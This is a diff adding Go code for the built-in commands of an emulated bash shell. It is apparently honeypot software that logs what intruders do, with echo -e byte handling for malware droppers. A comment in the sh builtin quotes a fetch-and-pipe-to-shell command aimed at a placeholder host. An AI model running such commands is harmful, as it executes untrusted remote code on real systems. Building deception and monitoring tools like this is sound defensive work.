@@ -0,0 +1,274 @@
+package shell
+
+import (
+	"io"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// registerBuiltins adds the commands bash implements itself
+func registerBuiltins(r *Registry) {
+	r.Register(cd, "cd")
+	r.Register(pwd, "pwd")
+	r.Register(echo, "echo")
+	r.Register(export, "export")
+	r.Register(unset, "unset")
+	r.Register(env, "env", "printenv")
+	r.Register(history, "history")
+	r.Register(exit, "exit", "logout")
+	r.Register(func(*Context) int { return 0 }, "true", ":", "enable", "ulimit", "set", "trap", "wait")
+	r.Register(func(*Context) int { return 1 }, "false")
+	r.Register(sh, "sh", "bash")
+	r.Register(source, "source", ".")
+	r.Register(sleep, "sleep")
+	r.Register(which, "which", "type", "command")
+}
+
+func cd(ctx *Context) int {
+	s := ctx.Session
+	dir := s.Getenv("HOME")
+	if len(ctx.Args) > 0 {
+		dir = ctx.Args[0]
+	}
+	if dir == "-" {
+		dir = s.Getenv("OLDPWD")
+		ctx.Printf("%s\n", dir)
+	}
+	abs := s.Resolve(dir)
+	fi, err := s.FS.Stat(abs)
+	switch {
+	case err != nil:
+		ctx.Errorf("-bash: cd: %s: %s\n", dir, ErrText(err))
+		return 1
+	case !fi.IsDir():
+		ctx.Errorf("-bash: cd: %s: Not a directory\n", dir)
+		return 1
+	case !s.Access(fi, 1):
+		ctx.Errorf("-bash: cd: %s: Permission denied\n", dir)
+		return 1
+	}
+	s.Env["OLDPWD"] = s.Cwd
+	s.Cwd = abs
+	return 0
+}
+
+func pwd(ctx *Context) int {
+	ctx.Printf("%s\n", ctx.Session.Cwd)
+	return 0
+}
+
+func echo(ctx *Context) int {
+	args := ctx.Args
+	newline, escapes := true, false
+	for len(args) > 0 && len(args[0]) > 1 && args[0][0] == '-' && strings.Trim(args[0][1:], "neE") == "" {
+		for _, f := range args[0][1:] {
+			switch f {
+			case 'n':
+				newline = false
+			case 'e':
+				escapes = true
+			case 'E':
+				escapes = false
+			}
+		}
+		args = args[1:]
+	}
+	out := strings.Join(args, " ")
+	if escapes {
+		out = unescape(out)
+	}
+	if newline {
+		out += "\n"
+	}
+	io.WriteString(ctx.Stdout, out)
+	return 0
+}
+
+// unescape interprets the backslash escapes of echo -e, including the \xHH
+// bytes droppers write binaries with
+func unescape(s string) string {
+	var sb strings.Builder
+	for i := 0; i < len(s); i++ {
+		if s[i] != '\\' || i+1 >= len(s) {
+			sb.WriteByte(s[i])
+			continue
+		}
+		i++
+		switch s[i] {
+		case 'n':
+			sb.WriteByte('\n')
+		case 't':
+			sb.WriteByte('\t')
+		case 'r':
+			sb.WriteByte('\r')
+		case '\\':
+			sb.WriteByte('\\')
+		case 'x':
+			j := i + 1
+			for j < len(s) && j < i+3 && strings.IndexByte("0123456789abcdefABCDEF", s[j]) >= 0 {
+				j++
+			}
+			if v, err := strconv.ParseUint(s[i+1:j], 16, 8); err == nil {
+				sb.WriteByte(byte(v))
+				i = j - 1
+			} else {
+				sb.WriteString(`\x`)
+			}
+		default:
+			sb.WriteByte('\\')
+			sb.WriteByte(s[i])
+		}
+	}
+	return sb.String()
+}
+
+func export(ctx *Context) int {
+	if len(ctx.Args) == 0 || ctx.Args[0] == "-p" {
+		return printEnv(ctx, "declare -x %s=%q\n")
+	}
+	for _, arg := range ctx.Args {
+		name, value, ok := strings.Cut(arg, "=")
+		if !isName(name) {
+			ctx.Errorf("-bash: export: `%s': not a valid identifier\n", arg)
+			return 1
+		}
+		if ok {
+			ctx.Session.Setenv(name, value)
+		}
+	}
+	return 0
+}
+
+func unset(ctx *Context) int {
+	for _, name := range ctx.Args {
+		delete(ctx.Session.Env, name)
+	}
+	return 0
+}
+
+func env(ctx *Context) int {
+	if ctx.Name == "printenv" && len(ctx.Args) > 0 {
+		status := 1
+		for _, name := range ctx.Args {
+			if v, ok := ctx.Session.Env[name]; ok {
+				ctx.Printf("%s\n", v)
+				status = 0
+			}
+		}
+		return status
+	}
+	return printEnv(ctx, "%s=%s\n")
+}
+
+func printEnv(ctx *Context, format string) int {
+	s := ctx.Session
+	vars := map[string]string{"PWD": s.Cwd}
+	for k, v := range s.Env {
+		vars[k] = v
+	}
+	names := make([]string, 0, len(vars))
+	for name := range vars {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	for _, name := range names {
+		ctx.Printf(format, name, vars[name])
+	}
+	return 0
+}
+
+func history(ctx *Context) int {
+	if len(ctx.Args) > 0 && ctx.Args[0] == "-c" {
+		ctx.Session.History = nil
+		return 0
+	}
+	for i, line := range ctx.Session.History {
+		ctx.Printf(" %4d  %s\n", i+1, line)
+	}
+	return 0
+}
+
+func exit(ctx *Context) int {
+	status := ctx.Session.status
+	if len(ctx.Args) > 0 {
+		if n, err := strconv.Atoi(ctx.Args[0]); err == nil {
+			status = n & 0xff
+		}
+	}
+	ctx.Printf("logout\n")
+	ctx.Session.exited = true
+	return status
+}
+
+// sh runs a script given with -c, a script file, or its standard input, as
+// in 'curl http://x/i.sh | sh'. The script runs in the current session; an
+// interactive sub-shell is not emulated.
+func sh(ctx *Context) int {
+	for i, arg := range ctx.Args {
+		switch {
+		case arg == "-c" && i+1 < len(ctx.Args):
+			return ctx.Session.run(ctx.Stdout, ctx.Stderr, ctx.Args[i+1])
+		case !strings.HasPrefix(arg, "-"):
+			return source(&Context{Session: ctx.Session, Name: ctx.Name, Args: ctx.Args[i:], Stdout: ctx.Stdout, Stderr: ctx.Stderr})
+		}
+	}
+	script, _ := io.ReadAll(ctx.Stdin)
+	return ctx.Session.run(ctx.Stdout, ctx.Stderr, string(script))
+}
+
+// source runs a script file in the current session
+func source(ctx *Context) int {
+	if len(ctx.Args) == 0 {
+		ctx.Errorf("-bash: %s: filename argument required\n", ctx.Name)
+		return 2
+	}
+	s := ctx.Session
+	data, err := s.FS.ReadFile(s.Resolve(ctx.Args[0]))
+	if err != nil {
+		ctx.Errorf("-bash: %s: %s\n", ctx.Args[0], ErrText(err))
+		return 127
+	}
+	return s.run(ctx.Stdout, ctx.Stderr, string(data))
+}
+
+func sleep(ctx *Context) int {
+	if len(ctx.Args) == 0 {
+		ctx.Errorf("sleep: missing operand\n")
+		return 1
+	}
+	secs, err := strconv.ParseFloat(strings.TrimSuffix(ctx.Args[0], "s"), 64)
+	if err != nil {
+		ctx.Errorf("sleep: invalid time interval '%s'\n", ctx.Args[0])
+		return 1
+	}
+	// Long sleeps would only hold the session open
+	if secs > 5 {
+		secs = 5
+	}
+	ctx.Sleep(time.Duration(secs * float64(time.Second)))
+	return 0
+}
+
+func which(ctx *Context) int {
+	status := 0
+	for _, name := range ctx.Args {
+		if strings.HasPrefix(name, "-") {
+			continue
+		}
+		if _, ok := ctx.Session.Commands.Lookup(name); !ok {
+			if ctx.Name == "type" {
+				ctx.Errorf("-bash: type: %s: not found\n", name)
+			}
+			status = 1
+			continue
+		}
+		if ctx.Name == "type" {
+			ctx.Printf("%s is /usr/bin/%s\n", name, name)
+		} else {
+			ctx.Printf("/usr/bin/%s\n", name)
+		}
+	}
+	return status
+}